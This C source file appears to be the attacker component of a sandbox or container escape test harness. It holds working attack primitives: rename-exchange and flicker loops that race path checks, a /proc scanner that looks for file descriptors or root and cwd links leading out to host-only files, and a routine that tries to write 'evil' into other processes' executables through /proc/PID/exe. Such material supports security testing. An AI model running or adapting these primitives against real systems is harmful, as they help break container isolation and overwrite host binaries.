// What goes on while the runtime works: names that are exchanged, processes that are looked into.
#include "attacker.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

_Noreturn void swap_names(char **pair) {
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE);
}

// A name that is there, and then is not.
_Noreturn void flicker(const char *path) {
    char aside[4096];
    snprintf(aside, sizeof aside, "%s-aside", path);
    for (;;) {
        rename(path, aside);
        rename(aside, path);
    }
}

// Does a folder that is open there, or a root or cwd, lead up to what only the host has?
static int leads_to(const char *name, const char *marker) {
    char path[8192];
    struct stat found;
    if (stat(name, &found) != 0 || !S_ISDIR(found.st_mode))
        return 0;
    for (int depth = 0; depth < 24; depth++) {
        int used = snprintf(path, sizeof path, "%s/", name);
        for (int up = 0; up < depth; up++)
            used += sprintf(path + used, "../");
        snprintf(path + used, sizeof path - (size_t)used, "%s", marker + 1);
        if (access(path, F_OK) == 0)
            return 1;
    }
    return 0;
}

static void look_at(const char *pid, const char *marker, unsigned long *looks) {
    char name[300], text[512];
    static const char *const links[] = {"root", "cwd"};
    for (size_t i = 0; i < 2; i++) {
        snprintf(name, sizeof name, "/proc/%.16s/%s", pid, links[i]);
        if (leads_to(name, marker))
            say("REACHED", 0, name);
    }
    snprintf(name, sizeof name, "/proc/%.16s/fd", pid);
    DIR *folder = opendir(name);
    const struct dirent *entry;
    while (folder && (entry = readdir(folder))) {
        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        snprintf(text, sizeof text, "%s/%.32s", name, entry->d_name);
        ++*looks;
        if (leads_to(text, marker))
            say("REACHED", 0, text);
    }
    if (folder)
        closedir(folder);
}

static volatile sig_atomic_t asked;

static void ask(int signal) {
    asked = signal;
}

static int is_other(const char *name) {
    return isdigit((unsigned char)*name) && strtol(name, NULL, 10) != getpid();
}

_Noreturn void spy(const char *marker) {
    unsigned long looks = 0, rounds = 0;
    char text[128];
    signal(SIGUSR1, ask);
    for (;;) {
        DIR *all = opendir("/proc");
        const struct dirent *entry;
        while (all && (entry = readdir(all)))
            if (is_other(entry->d_name))
                look_at(entry->d_name, marker, &looks);
        if (all)
            closedir(all);
        rounds++;
        if (asked) {
            snprintf(text, sizeof text, "%lu descriptors in %lu rounds", looks, rounds);
            say("spied", 0, text);
            exit(0);
        }
    }
}

enum { MOST_FILES = 64 };

struct kept {
    int fd;
    ino_t inode;
};

// Tries to write to a program that others execute, or executed: as long as one of them does the
// kernel says ETXTBSY.
static void write_to(const struct kept *file, unsigned long *tries, unsigned long *busy,
                     int *last) {
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", file->fd);
    ++*tries;
    int fd = open(name, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        *busy += errno == ETXTBSY;
        if (errno != ETXTBSY)
            *last = errno;
        return;
    }
    if (write(fd, "evil", 4) == 4)
        say("WRITTEN", 0, name);
    close(fd);
}

_Noreturn void overwrite(void) {
    struct kept files[MOST_FILES];
    size_t count = 0;
    unsigned long tries = 0, busy = 0;
    int last = 0;
    struct stat own = {0}, found;
    char name[300], text[160];
    stat("/proc/self/exe", &own);
    signal(SIGUSR1, ask);
    for (;;) {
        DIR *all = opendir("/proc");
        const struct dirent *entry;
        while (all && (entry = readdir(all))) {
            if (!is_other(entry->d_name) || count == MOST_FILES)
                continue;
            snprintf(name, sizeof name, "/proc/%.200s/exe", entry->d_name);
            int fd = open(name, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            int known = fstat(fd, &found) != 0 || found.st_ino == own.st_ino;
            for (size_t i = 0; i < count && !known; i++)
                known = files[i].inode == found.st_ino;
            if (known)
                close(fd);
            else
                files[count++] = (struct kept){fd, found.st_ino};
        }
        if (all)
            closedir(all);
        for (size_t i = 0; i < count; i++)
            write_to(&files[i], &tries, &busy, &last);
        if (asked) {
            snprintf(text, sizeof text, "%zu programs, %lu tries, %lu while it ran, else errno %d",
                     count, tries, busy, last);
            say("tried", 0, text);
            exit(0);
        }
    }
}
